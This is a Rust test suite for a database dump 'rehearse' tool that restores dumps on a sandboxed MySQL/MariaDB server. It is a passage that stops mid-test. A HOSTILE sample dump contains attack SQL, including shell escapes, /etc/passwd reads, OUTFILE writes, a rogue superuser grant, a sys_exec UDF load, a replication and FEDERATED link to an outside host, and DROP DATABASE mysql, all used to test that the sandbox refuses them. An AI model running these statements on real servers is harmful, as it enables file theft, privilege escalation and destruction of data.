//! Dumps are restored on a private server that leaves nothing behind, and what they lack shows when it is used.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;
use tempfile::TempDir;

use crate::server::{self, Server};
use crate::{common, producers, skip};

/// A folder in memory where there is such a thing, with a short path.
fn folder() -> TempDir {
    TempDir::new_in("/dev/shm")
        .or_else(|_| TempDir::new())
        .expect("a folder")
}

/// The sample as text, which holds bytes of other character sets.
fn sample() -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sample.sql.gz");
    common::text_of(&path)
}

/// A small dump of our own: two tables, a view, a function and triggers.
const SMALL: &str = "\
-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)
--
-- Host: localhost    Database: civicrm
-- ------------------------------------------------------
-- Server version\t8.0.36
SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0;
CREATE TABLE `parent` (`id` int NOT NULL AUTO_INCREMENT, `name` varchar(20) NOT NULL, PRIMARY KEY (`id`), UNIQUE KEY `name` (`name`));
INSERT INTO `parent` VALUES (1,'one; (two)'),(2,'it''s');
CREATE TABLE `child` (`id` int NOT NULL AUTO_INCREMENT, `parent_id` int NOT NULL, `note` text NOT NULL, PRIMARY KEY (`id`), CONSTRAINT `fk` FOREIGN KEY (`parent_id`) REFERENCES `parent` (`id`));
DELIMITER ;;
CREATE DEFINER=`site`@`localhost` FUNCTION `shout`(a text) RETURNS text DETERMINISTIC BEGIN RETURN UPPER(a); END ;;
CREATE DEFINER=`site`@`localhost` TRIGGER `child_before_insert` BEFORE INSERT ON `child` FOR EACH ROW BEGIN SET NEW.note = shout(NEW.note); END ;;
CREATE DEFINER=`site`@`localhost` TRIGGER `child_after_delete` AFTER DELETE ON `child` FOR EACH ROW BEGIN SET @gone = OLD.id; END ;;
DELIMITER ;
CREATE DEFINER=`site`@`localhost` SQL SECURITY DEFINER VIEW `both` AS SELECT p.name, shout(c.note) AS note FROM parent p JOIN child c ON c.parent_id = p.id;
SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS;
-- Dump completed on 2026-01-01  0:00:00
";

/// What `--on` takes for a server.
fn on(server: &Server) -> String {
    let roots = std::env::var_os("CIVIDB_TEST_ROOTS").map(PathBuf::from);
    let roots =
        roots.unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-servers"));
    match server.name.as_str() {
        "installed" => server.kind().path().display().to_string(),
        name => roots.join(name).display().to_string(),
    }
}

/// Rehearses a text in a folder of its own, which has to be empty but for the dump afterwards.
struct Rehearsal {
    folder: TempDir,
    output: Output,
}

impl Rehearsal {
    fn of(text: &[u8], more: &[&str]) -> Option<Self> {
        let server = server::installed()?;
        Some(Self::on(server, text, more))
    }

    fn on(server: &Server, text: &[u8], more: &[&str]) -> Self {
        let folder = folder();
        fs::write(folder.path().join("dump.sql"), text).expect("a dump");
        let program = on(server);
        let mut arguments = vec!["rehearse", "dump.sql", "--tmp", ".", "--format", "json"];
        if !more.contains(&"--on") {
            arguments.extend(["--on", &program]);
        }
        arguments.extend(more);
        let output = common::cividb(folder.path(), &arguments);
        Self { folder, output }
    }

    fn exit(&self) -> Option<i32> {
        self.output.status.code()
    }

    fn report(&self) -> Value {
        serde_json::from_slice(&self.output.stdout)
            .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&self.output.stderr)))
    }

    fn section(&self) -> Value {
        self.report()["rehearsal"].clone()
    }

    /// Phase, object and error of everything that did not work.
    fn failures(&self) -> Vec<(String, String, u64)> {
        let section = self.section();
        let all = section["failures"].as_array().expect("a list");
        all.iter()
            .map(|failure| {
                (
                    failure["phase"].as_str().unwrap_or_default().to_owned(),
                    failure["object"]["name"]
                        .as_str()
                        .unwrap_or_default()
                        .to_owned(),
                    failure["server_error"].as_u64().unwrap_or_default(),
                )
            })
            .collect()
    }

    fn leaves_nothing(&self) {
        let left: Vec<PathBuf> = left_in(self.folder.path());
        assert!(left.is_empty(), "{left:?}");
    }
}

/// What is in a folder besides dumps.
fn left_in(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).expect("a folder");
    entries
        .map(|entry| entry.expect("an entry").path())
        .filter(|path| path.extension().is_none_or(|end| end != "sql"))
        .collect()
}

fn triple(phase: &str, name: &str, code: u64) -> (String, String, u64) {
    (phase.to_owned(), name.to_owned(), code)
}

#[test]
fn a_whole_dump_is_restored_and_works() {
    let Some(rehearsal) = Rehearsal::of(SMALL.as_bytes(), &["--no-civicrm"]) else {
        return;
    };
    let section = rehearsal.section();
    assert_eq!(rehearsal.exit(), Some(0), "{section:#}");
    assert_eq!(section["outcome"], "works");
    assert_eq!(section["rows"], 2);
    assert_eq!(section["views_read"], 1);
    assert_eq!(section["functions_called"], 1);
    assert_eq!(section["triggers_fired"], 2);
    assert_eq!(section["definers_made"][0]["user"], "site");
    rehearsal.leaves_nothing();
}

#[test]
fn the_sample_is_restored_with_every_trigger_fired() {
    let text = sample();
    let Some(rehearsal) = Rehearsal::of(&text, &[]) else {
        return;
    };
    let section = rehearsal.section();
    assert_eq!(rehearsal.exit(), Some(0), "{section:#}");
    assert_eq!(section["triggers_fired"], 29);
    assert_eq!(section["rows"], 440);
    rehearsal.leaves_nothing();
}

#[test]
fn a_function_that_was_not_dumped_shows_in_the_trigger_that_calls_it() {
    let start = SMALL
        .find("CREATE DEFINER=`site`@`localhost` FUNCTION")
        .expect("a function");
    let end = start + SMALL[start..].find('\n').expect("a line");
    let text = [&SMALL[..start], &SMALL[end + 1..]].concat();
    // The view cannot be made either, without the function.
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &["--no-civicrm", "--force"]) else {
        return;
    };
    assert_eq!(rehearsal.exit(), Some(1));
    let failures = rehearsal.failures();
    assert!(
        failures.contains(&triple("triggers", "child_before_insert", 1305)),
        "{failures:?}"
    );
    assert!(
        failures.contains(&triple("restore", "both", 1305)),
        "{failures:?}"
    );
    rehearsal.leaves_nothing();
}

#[test]
fn a_statement_that_fails_is_placed_and_ends_the_restore_unless_forced() {
    let text = SMALL.replace(
        "INSERT INTO `parent` VALUES (1",
        "INSERT INTO `parent` VALUES (9",
    );
    let text = text.replace(
        "CREATE TABLE `child`",
        "INSERT INTO `parent` VALUES (9,'x');\nCREATE TABLE `child`",
    );
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &["--no-civicrm"]) else {
        return;
    };
    assert_eq!(rehearsal.exit(), Some(1));
    let section = rehearsal.section();
    assert_eq!(section["outcome"], "not-restored");
    let failure = &section["failures"][0];
    let offset = text
        .find("INSERT INTO `parent` VALUES (9,'x')")
        .expect("it is there");
    assert_eq!(failure["server_error"], 1062);
    assert_eq!(failure["line"], 9);
    assert_eq!(failure["offset"], offset);
    assert_eq!(failure["object"]["name"], "parent");
    rehearsal.leaves_nothing();
    let forced = Rehearsal::of(text.as_bytes(), &["--no-civicrm", "--force"]).expect("as before");
    let section = forced.section();
    assert_eq!(section["outcome"], "fails");
    assert_eq!(section["triggers_fired"], 2);
}

#[test]
fn bytes_that_are_no_text_arrive_as_they_are() {
    let mut text = SMALL
        .replace("`note` text NOT NULL", "`note` blob NOT NULL")
        .into_bytes();
    let end = b"SET FOREIGN_KEY_CHECKS=@OLD";
    let at = memchr::memmem::find(&text, end).expect("the end");
    let mut row = b"INSERT INTO `child` (`parent_id`,`note`) VALUES (1,_binary '".to_vec();
    let every: Vec<u8> = (0..=255)
        .filter(|byte| !matches!(byte, b'\'' | b'\\'))
        .collect();
    row.extend(&every);
    row.extend(b"');\nSELECT 1 FROM `child` WHERE 1 / (HEX(`note`) LIKE '%808182%FDFEFF');\n");
    text.splice(at..at, row);
    // The trigger, which is there already, would make text of it.
    let text = common::replaced(&text, "SET NEW.note = shout(NEW.note)", "SET @x = 1");
    let Some(rehearsal) = Rehearsal::of(&text, &["--no-civicrm", "--force"]) else {
        return;
    };
    let section = rehearsal.section();
    assert_eq!(
        section["failures"].as_array().map(Vec::len),
        Some(0),
        "{section:#}"
    );
    assert_eq!(section["rows"], 3);
}

#[test]
fn a_definer_without_an_account_fails_where_it_is_kept() {
    let Some(kept) = Rehearsal::of(
        SMALL.as_bytes(),
        &["--no-civicrm", "--force", "--definers", "keep"],
    ) else {
        return;
    };
    let failures = kept.failures();
    assert!(
        failures.contains(&triple("triggers", "child_before_insert", 1449)),
        "{failures:?}"
    );
    assert!(
        failures.contains(&triple("restore", "both", 1449)),
        "{failures:?}"
    );
    let current = Rehearsal::of(SMALL.as_bytes(), &["--no-civicrm", "--definers", "current"]);
    let current = current.expect("as before");
    assert_eq!(current.exit(), Some(0), "{:#}", current.section());
    assert_eq!(
        current.section()["definers_made"].as_array().map(Vec::len),
        Some(0)
    );
}

/// A dump that wants out: `@OUT` stands for a folder that it may not write to.
const HOSTILE: &str = "\
CREATE TABLE `t` (`id` int NOT NULL AUTO_INCREMENT PRIMARY KEY, `a` varchar(20));
INSERT INTO `t` VALUES (1,'a');
\\! touch @OUT/shell
;
system touch @OUT/system;
source @OUT/evil.sql;
SET GLOBAL general_log_file = '@OUT/log';
CREATE USER evil@'%' IDENTIFIED BY 'x';
GRANT ALL ON *.* TO evil@'%';
INSTALL PLUGIN evil SONAME 'evil.so';
CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so';
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;
LOAD DATA INFILE '/etc/passwd' INTO TABLE t;
SELECT 'x' INTO OUTFILE '@OUT/file';
CREATE TABLE u (a int) DATA DIRECTORY = '@OUT';
CREATE TABLE f (a int) ENGINE=FEDERATED CONNECTION='mysql://evil@192.0.2.1/x/y';
CHANGE MASTER TO MASTER_HOST = '192.0.2.1';
START SLAVE;
SHUTDOWN;
DROP DATABASE mysql;
UPDATE mysql.user SET Super_priv = 'Y';
DELIMITER ;;
SET @a = 1; GRANT ALL ON *.* TO evil@'%';;
CREATE DEFINER=`root`@`localhost` FUNCTION `out1`() RETURNS int BEGIN SELECT 'x' INTO OUTFILE '@OUT/function' FROM t LIMIT 1; RETURN 1; END ;;
CREATE DEFINER=`root`@`localhost` FUNCTION `out2`() RETURNS int BEGIN SET GLOBAL general_log_file = '@OUT/general'; SET GLOBAL general_log = 1; RETURN 1; END ;;
CREATE DEFINER=`mysql.session`@`localhost` FUNCTION `out3`() RETURNS int BEGIN SET GLOBAL general_log_file = '@OUT/session'; RETURN 1; END ;;
CREATE DEFINER=`root`@`localhost` FUNCTION `out4`() RETURNS int BEGIN SET @read = LOAD_FILE('/etc/passwd'); IF @read IS NOT NULL THEN SIGNAL SQLSTATE '22012'; END IF; RETURN 1; END ;;
CREATE DEFINER=`root`@`localhost` TRIGGER `t_insert` BEFORE INSERT ON `t` FOR EACH ROW BEGIN SET GLOBAL general_log_file = '@OUT/trigger'; END ;;
CREATE DEFINER=`root`@`localhost` EVENT `e` ON SCHEDULE EVERY 1 SECOND DO BEGIN SET GLOBAL general_log_file = '@OUT/event'; END ;;
DELIMITER ;
";

#[test]
fn a_hostile_dump_does_nothing_outside() {
    for server in server::some() {
        let out = folder();
        let path = out.path().display().to_string();
        let text = HOSTILE.replace("@OUT", &path);
        fs::write(
            out.path().join("evil.sql"),
            "CREATE TABLE sourced (a int);\n",
        )
        .expect("a file");
        let rehearsal = Rehearsal::on(server, text.as_bytes(), &["--no-civicrm", "--force"]);
        let section = rehearsal.section();
        let at = &server.name;
        assert_eq!(rehearsal.exit(), Some(1), "{at}: {section:#}");
        let found: Vec<PathBuf> = left_in(out.path());
        assert!(found.is_empty(), "{at}: {found:?}");
        let refused = section["refused"].as_array().expect("a list");
        let kinds: Vec<&str> = refused
            .iter()
            .filter_map(|it| it["kind"].as_str())
            .collect();
        for kind in [
            "set-global",
            "accounts",
            "plugins",
            "load-data",
            "into-outfile",
            "data-directory",
            "replication",
            "server",
            "other-database",
            "several-statements",
        ] {
            assert!(kinds.contains(&kind), "{at}: {kind} of {kinds:?}");
        }
        // Whatever runs as an account that everybody knows may do nothing either.
        let failures = rehearsal.failures();
        for function in ["out1", "out2"] {
            let denied = failures.iter().any(|(phase, name, code)| {
                phase == "functions" && name == function && matches!(code, 1045 | 1227)
            });
            assert!(denied, "{at}: {function} in {failures:?}");
        }
        let trigger = |it: &&(String, String, u64)| it.1 == "t_insert" && it.2 == 1227;
        assert!(failures.iter().any(|it| trigger(&it)), "{at}: {failures:?}");
        assert!(
            !failures.iter().any(|it| it.1 == "out4"),
            "{at}: {failures:?}"
        );
        rehearsal.leaves_nothing();
    }
}

#[test]
fn what_is_allowed_by_name_still_meets_the_account() {
    let all = "set-global,accounts,plugins,load-data,into-outfile,data-directory,replication,server,several-statements";
    let out = folder();
    let path = out.path().display().to_string();
    // What the server does there would end the rehearsal.
    let text = HOSTILE.replace("SHUTDOWN;\n", "").replace("@OUT", &path);
    let more = ["--no-civicrm", "--force", "--allow", all];
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &more) else {
        return;
    };
    let section = rehearsal.section();
    let refused = section["refused"].as_array().expect("a list");
    let kinds: Vec<&str> = refused
        .iter()
        .filter_map(|it| it["kind"].as_str())
        .collect();
    assert_eq!(kinds, ["other-database"], "{section:#}");
    // secure_file_priv and the empty folder of plugins hold in any case.
    let failures = rehearsal.failures();
    assert!(failures.iter().any(|it| it.2 == 1290), "{failures:?}");
}

#[test]
fn a_statement_that_never_ends_is_ended() {
    let text = format!("{SMALL}SELECT SLEEP(3600);\n");
    let more = ["--no-civicrm", "--statement-seconds", "2"];
    let begun = Instant::now();
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &more) else {
        return;
    };
    assert!(begun.elapsed() < Duration::from_secs(60));
    assert_eq!(rehearsal.exit(), Some(1));
    let section = rehearsal.section();
    let said = section["failures"][0]["server_text"]
        .as_str()
        .unwrap_or_default();
    assert_eq!(said, "it did not end within 2 seconds, and was ended");
    let mend = section["failures"][0]["mend"].as_str().unwrap_or_default();
    assert!(
        mend.contains("SLEEP") && mend.contains("--statement-seconds"),
        "{mend}"
    );
    rehearsal.leaves_nothing();
}

#[test]
fn a_trigger_that_loops_without_end_is_named_as_that() {
    let text = SMALL.replace(
        "SET @gone = OLD.id;",
        "WHILE 1 DO SET @gone = 1; END WHILE;",
    );
    let more = ["--no-civicrm", "--statement-seconds", "1"];
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &more) else {
        return;
    };
    let section = rehearsal.section();
    let failure = &section["failures"][0];
    assert_eq!(
        failure["object"]["name"], "child_after_delete",
        "{section:#}"
    );
    assert_eq!(
        failure["server_text"],
        "it did not end within 1 second, and was ended"
    );
    rehearsal.leaves_nothing();
}

#[test]
fn statements_that_change_rows_are_run_and_keep_counts_from_being_compared() {
    let end = "DELIMITER ;;";
    let changes = "UPDATE parent SET name = 'three' WHERE id = 2;\nDELETE FROM parent WHERE id = 1;\nDELIMITER ;;";
    let text = SMALL.replacen(end, changes, 1);
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &["--no-civicrm"]) else {
        return;
    };
    let report = rehearsal.report();
    assert_eq!(rehearsal.exit(), Some(3), "{report:#}");
    assert_eq!(errors(&report), [""; 0]);
    let not_tried = report["rehearsal"]["not_tried"].to_string();
    assert!(
        not_tried.contains("rows of parent (1 after the restore, 2 inserted by the dump)")
            && not_tried.contains("by UPDATE (line 10)"),
        "{not_tried}"
    );
}

#[test]
fn another_dump_is_compared_row_by_row() {
    let folder = folder();
    let other = folder.path().join("other.sql");
    let changed = SMALL
        .replace("it''s", "it is")
        .replace("(1,'one; (two)'),", "(1,'one; (two)'),(3,'gone'),");
    fs::write(&other, changed).expect("a dump");
    let other = other.display().to_string();
    let more = ["--no-civicrm", "--against", &other];
    let Some(rehearsal) = Rehearsal::of(SMALL.as_bytes(), &more) else {
        return;
    };
    let report = rehearsal.report();
    assert_eq!(rehearsal.exit(), Some(1), "{report:#}");
    let errors = errors(&report);
    assert!(errors.contains(&"contents-rows-lost"), "{errors:?}");
    assert!(errors.contains(&"contents-changed"), "{errors:?}");
    // Of the dump itself nothing is lost.
    let own = rehearsal.folder.path().join("own.sql");
    fs::write(&own, SMALL).expect("a dump");
    let own = own.display().to_string();
    let same = Rehearsal::of(SMALL.as_bytes(), &["--no-civicrm", "--against", &own]);
    let same = same.expect("as before");
    assert_eq!(same.exit(), Some(0), "{:#}", same.report());
    assert_eq!(same.report()["contents"]["rows"], 2);
}

#[test]
fn an_upgrade_to_an_earlier_release_is_refused_with_both_versions() {
    let Some(rehearsal) = Rehearsal::of(&sample(), &["--target", "5.13.3"]) else {
        return;
    };
    assert_eq!(rehearsal.exit(), Some(2));
    let said = String::from_utf8_lossy(&rehearsal.output.stderr).into_owned();
    assert!(said.contains("5.81.2") && said.contains("5.13.3"), "{said}");
    rehearsal.leaves_nothing();
}

#[test]
fn what_a_command_leaves_running_ends_with_it_and_with_the_program() {
    let Some(server) = server::installed() else {
        return;
    };
    let sleeps = |seconds: u32| format!("sleep {seconds} & sleep {seconds} >/dev/null 2>&1 & true");
    let command = sleeps(7101);
    let more = ["--no-civicrm", "--upgrade-command", &command];
    let rehearsal = Rehearsal::on(server, SMALL.as_bytes(), &more);
    assert_eq!(rehearsal.exit(), Some(0), "{:#}", rehearsal.section());
    assert_eq!(processes_with("7101"), [0; 0]);
    let folder = folder();
    fs::write(folder.path().join("slow.sql"), SMALL).expect("a dump");
    for (signal, seconds) in [(Signal::TERM, 7102), (Signal::KILL, 7103)] {
        let command = format!("{}; sleep {seconds}", sleeps(seconds));
        let more = ["--upgrade-command", &command];
        let mut child = start(folder.path(), &on(server), &more);
        let name = seconds.to_string();
        wait_until("the command runs", Duration::from_secs(120), || {
            processes_with(&name).len() >= 3
        });
        kill_process(pid(child.id()), signal).expect("it runs");
        child.wait().expect("it ends");
        let is_clean = || processes_with(&name).is_empty();
        wait_until("the command is gone", Duration::from_secs(30), is_clean);
    }
}

/// The processes that have this number as an argument of their own.
fn processes_with(number: &str) -> Vec<u32> {
    let all = fs::read_dir("/proc").expect("processes").flatten();
    all.filter_map(|entry| {
        let id: u32 = entry.file_name().to_string_lossy().parse().ok()?;
        let line = fs::read(entry.path().join("cmdline")).ok()?;
        line.split(|byte| *byte == 0)
            .any(|argument| argument == number.as_bytes())
            .then_some(id)
    })
    .collect()
}

#[test]
fn the_first_line_says_what_makes_it_fail() {
    let Some(server) = server::installed() else {
        return;
    };
    let folder = folder();
    // A dump that ends before its last line, and nothing else.
    let orphan = SMALL.replace(
        "DELIMITER ;;",
        "INSERT INTO `child` VALUES (1,99,'x');\nDELIMITER ;;",
    );
    fs::write(folder.path().join("slow.sql"), orphan).expect("a dump");
    let output = start(folder.path(), &on(server), &[])
        .wait_with_output()
        .expect("it ends");
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    let first = said.lines().next().unwrap_or_default();
    assert!(first.starts_with("FAIL"), "{said}");
    assert!(
        first.ends_with(", and all of it runs; 1 error found in the backup)"),
        "{first}"
    );
}

#[test]
fn a_disk_without_room_is_refused_before_anything() {
    let Some(server) = server::installed() else {
        return;
    };
    let folder = folder();
    fs::write(folder.path().join("dump.sql"), SMALL).expect("a dump");
    let program = on(server);
    // Here nothing can be written.
    let output = common::cividb(
        folder.path(),
        &["rehearse", "dump.sql", "--tmp", "/proc", "--on", &program],
    );
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        said.contains("MiB free") && said.contains("--tmp"),
        "{said}"
    );
}

#[test]
fn a_server_and_an_unknown_server_are_refused() {
    let folder = folder();
    fs::write(folder.path().join("dump.sql"), SMALL).expect("a dump");
    for (arguments, words) in [
        (
            &["rehearse", "mysql://root@localhost/civicrm"][..],
            "this is a server",
        ),
        (
            &["rehearse", "dump.sql", "--on", "oracle-9"],
            "neither a server",
        ),
        (
            &["rehearse", "dump.sql", "--on", "dump.sql"],
            "not print a server's version",
        ),
        (
            &["rehearse", "dump.sql", "--allow", "everything"],
            "no such kind",
        ),
    ] {
        let output = common::cividb(folder.path(), arguments);
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{arguments:?}: {said}");
        let is_permitted = words.contains("version") && said.contains("cannot be started");
        assert!(
            said.contains(words) || is_permitted,
            "{arguments:?}: {said}"
        );
    }
}

/// A dump whose restore takes long enough to be interrupted anywhere.
fn slow() -> String {
    let mut text = SMALL.to_owned();
    for number in 0..60 {
        text += &format!("CREATE TABLE `t{number}` (`id` int PRIMARY KEY);\nSELECT SLEEP(0.05);\n");
    }
    text
}

fn start(folder: &Path, program: &str, more: &[&str]) -> Child {
    Command::new(env!("CARGO_BIN_EXE_cividb"))
        .args([
            "rehearse",
            "slow.sql",
            "--tmp",
            ".",
            "--no-civicrm",
            "--on",
            program,
        ])
        .args(more)
        .current_dir(folder)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("it starts")
}

/// The processes that have this folder among their arguments.
fn processes_of(folder: &Path) -> Vec<u32> {
    let name = folder.display().to_string();
    let all = fs::read_dir("/proc").expect("processes").flatten();
    all.filter_map(|entry| {
        let number: u32 = entry.file_name().to_string_lossy().parse().ok()?;
        let line = fs::read(entry.path().join("cmdline")).ok()?;
        memchr::memmem::find(&line, name.as_bytes()).map(|_| number)
    })
    .collect()
}

fn pid(number: u32) -> Pid {
    let number = number.try_into().ok();
    number
        .and_then(Pid::from_raw)
        .expect("the number of a process")
}

fn wait_until(what: &str, limit: Duration, mut is_true: impl FnMut() -> bool) {
    let begun = Instant::now();
    while !is_true() {
        assert!(begun.elapsed() < limit, "{what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// How a rehearsal can end early.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum End {
    Signal(Signal),
    ServerKilled,
}

/// Ends a rehearsal after some time, and looks whether anything is left.
fn ended_early(program: &str, end: End, after: Duration) {
    let folder = folder();
    fs::write(folder.path().join("slow.sql"), slow()).expect("a dump");
    let mut child = start(folder.path(), program, &[]);
    std::thread::sleep(after);
    match end {
        End::Signal(signal) => kill_process(pid(child.id()), signal).expect("it runs"),
        End::ServerKilled => {
            let sandboxes = || fs::read_dir(folder.path()).expect("a folder").flatten();
            let server = || {
                sandboxes().find_map(|it| {
                    fs::read_to_string(it.path().join("pid"))
                        .ok()?
                        .trim()
                        .parse()
                        .ok()
                })
            };
            let mut found = None;
            wait_until("the server starts", Duration::from_secs(120), || {
                found = server();
                found.is_some()
            });
            kill_process(pid(found.expect("a number")), Signal::KILL).expect("it runs");
        }
    }
    let status = child.wait().expect("it ends");
    assert!(!status.success(), "{end:?} after {after:?}: {status}");
    let is_clean = || left_in(folder.path()).is_empty() && processes_of(folder.path()).is_empty();
    // A signal that nobody can catch leaves the work to those who watch.
    let limit = match end {
        End::Signal(Signal::KILL) => Duration::from_secs(60),
        _ => Duration::from_secs(45),
    };
    wait_until(
        &format!("{end:?} after {after:?} leaves nothing"),
        limit,
        is_clean,
    );
}

#[test]
fn whatever_ends_a_rehearsal_nothing_is_left() {
    let Some(server) = server::installed() else {
        return;
    };
    let program = on(server);
    let ends = [
        End::Signal(Signal::INT),
        End::Signal(Signal::TERM),
        End::Signal(Signal::KILL),
        End::ServerKilled,
    ];
    let moments: &[u64] = match common::everything() {
        true => &[0, 60, 350, 900, 2500],
        false => &[1200],
    };
    for after in moments {
        for end in ends {
            ended_early(&program, end, Duration::from_millis(*after));
        }
    }
}

#[test]
fn a_server_that_is_kept_can_be_used_and_ended() {
    let Some(server) = server::installed() else {
        return;
    };
    let program = on(server);
    let folder = folder();
    fs::write(folder.path().join("slow.sql"), SMALL).expect("a dump");
    let more = ["--keep", "--format", "json"];
    let output = start(folder.path(), &program, &more)
        .wait_with_output()
        .expect("it ends");
    assert!(output.status.success());
    let report: Value = serde_json::from_slice(&output.stdout).expect("a report");
    let kept = &report["rehearsal"]["kept"];
    let socket = PathBuf::from(kept["socket"].as_str().expect("a path"));
    let login = cividb::server::login::Login {
        socket: Some(socket.clone()),
        user: kept["user"].as_str().map(str::to_owned),
        ..Default::default()
    };
    let mut connection = cividb::server::connection::Reader::open(&login).expect("it runs");
    connection.use_database("civicrm").expect("the database");
    let rows = connection
        .ask("the rows", "SELECT name FROM parent ORDER BY id")
        .expect("rows");
    assert_eq!(rows.len(), 2);
    drop(connection);
    // Another rehearsal in the same folder does not take it for something that is left over.
    let other = start(folder.path(), &program, &[])
        .wait_with_output()
        .expect("it ends");
    assert!(other.status.success());
    assert!(socket.exists());
    let keeper = kept["process"]
        .as_u64()
        .and_then(|it| u32::try_from(it).ok())
        .expect("a number");
    kill_process(pid(keeper), Signal::TERM).expect("it runs");
    let is_clean = || left_in(folder.path()).is_empty() && processes_of(folder.path()).is_empty();
    wait_until("all is gone", Duration::from_secs(60), is_clean);
}

/// Rehearses a dump on a server; returns the exit code and the report.
fn rehearsed(server: &Server, dump: &Path, more: &[&str]) -> (Option<i32>, Value) {
    let tmp = folder();
    let arguments = [
        "rehearse",
        &dump.display().to_string(),
        "--tmp",
        ".",
        "--on",
        &on(server),
    ];
    let output = common::cividb(
        tmp.path(),
        &[&arguments[..], &["--format", "json"], more].concat(),
    );
    let report = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)));
    assert!(left_in(tmp.path()).is_empty());
    (output.status.code(), report)
}

fn verified(dump: &Path, target: &str) -> Value {
    let arguments = [
        "verify",
        &dump.display().to_string(),
        "--target-server",
        target,
    ];
    let output = common::cividb(
        Path::new("."),
        &[&arguments[..], &["--format", "json"]].concat(),
    );
    serde_json::from_slice(&output.stdout).expect("a report")
}

/// The server of this version as `--target-server` takes it.
fn target(server: &Server) -> String {
    let version = server.kind().version();
    let (major, minor, patch) = version.number;
    let family = if server.is_mysql() {
        "mysql"
    } else {
        "mariadb"
    };
    format!("{family}-{major}.{minor}.{patch}")
}

fn errors(report: &Value) -> Vec<&str> {
    let findings = report["findings"].as_array().expect("a list");
    let errors = findings
        .iter()
        .filter(|finding| finding["severity"] == "error");
    errors
        .filter_map(|finding| finding["check"].as_str())
        .collect()
}

#[test]
fn a_rehearsal_says_of_real_dumps_what_verify_says() {
    let some = ["4.2.16"];
    for server in server::some() {
        let dumps = common::real_dumps().into_iter().filter(|path| {
            let name = common::name(path);
            common::everything() || some.iter().any(|wanted| name.starts_with(wanted))
        });
        for dump in dumps {
            let at = format!("{} on {}", common::name(&dump), server.name);
            let verdict = verified(&dump, &target(server));
            let (exit, report) = rehearsed(server, &dump, &[]);
            let passes = verdict["verdict"] == "pass";
            assert_eq!(exit == Some(0), passes, "{at}: {report:#}");
            let section = &report["rehearsal"];
            if passes {
                assert_eq!(section["outcome"], "works", "{at}");
            }
            let has_triggers = report["inventory"]["triggers"] != 0;
            if errors(&verdict).contains(&"routine-missing") && has_triggers {
                let failures = section["failures"].as_array().expect("a list");
                let is_meant =
                    |it: &&Value| it["phase"] == "triggers" && it["server_error"] == 1305;
                let stops = section["outcome"] == "not-restored";
                assert!(
                    stops || failures.iter().any(|it| is_meant(&it)),
                    "{at}: {section:#}"
                );
            }
        }
    }
}

#[test]
fn a_rehearsal_says_of_every_producer_what_verify_says() {
    let Some(folder) = std::env::var_os("CIVIDB_PRODUCERS").map(PathBuf::from) else {
        skip::skip(
            "producers",
            "CIVIDB_PRODUCERS names no folder made by tests/producers/make",
        );
        return;
    };
    let some = ["mydumper-whole", "phpmyadmin-quick"];
    let mut wrong = Vec::new();
    for expected in producers::table() {
        if !common::everything() && !some.contains(&expected.name.as_str()) {
            continue;
        }
        let all = server::all();
        let own = all
            .iter()
            .find(|server| expected.name.starts_with(&server.name));
        // Dumps of a server that is not here are left to it.
        let is_of_other = ["mariadb-1", "mysql-"]
            .iter()
            .any(|it| expected.name.starts_with(it));
        let server = own.or_else(|| all.iter().find(|it| it.name == "installed" && !is_of_other));
        let (Some(server), Some(dump)) = (server, producers::find(&folder, &expected.name)) else {
            continue;
        };
        let (exit, report) = rehearsed(server, &dump, &[]);
        let outcome = report["rehearsal"]["outcome"].as_str().unwrap_or_default();
        // The site of these dumps has too few of CiviCRM's tables to tell whether some are missing.
        let passes = matches!(exit, Some(0 | 3));
        if outcome != expected.rehearsed || passes != expected.passes {
            wrong.push(format!(
                "{}: {outcome}, exit code {exit:?}: {:?}",
                expected.name,
                errors(&report)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_command_that_upgrades_is_judged_by_what_it_leaves() {
    let client =
        "mariadb --no-defaults --socket=$CIVIDB_SOCKET --user=$CIVIDB_USER $CIVIDB_DATABASE -e";
    let good = format!("{client} 'ALTER TABLE parent ADD COLUMN more int'");
    let Some(upgraded) = Rehearsal::of(
        SMALL.as_bytes(),
        &["--no-civicrm", "--upgrade-command", &good],
    ) else {
        return;
    };
    assert_eq!(upgraded.exit(), Some(0), "{:#}", upgraded.section());
    let bad = format!("{client} 'DROP FUNCTION shout'; exit 3");
    let broken = Rehearsal::of(
        SMALL.as_bytes(),
        &["--no-civicrm", "--upgrade-command", &bad],
    );
    let broken = broken.expect("as before");
    assert_eq!(broken.exit(), Some(1));
    let failures = broken.failures();
    assert!(
        failures.contains(&triple("triggers", "child_before_insert", 1305)),
        "{failures:?}"
    );
    assert!(failures.iter().any(|it| it.0 == "upgrade"), "{failures:?}");
    broken.leaves_nothing();
}

#[test]
fn several_connections_restore_the_same() {
    let mut text = SMALL.to_owned();
    let end = text.find("DELIMITER ;;").expect("the programs");
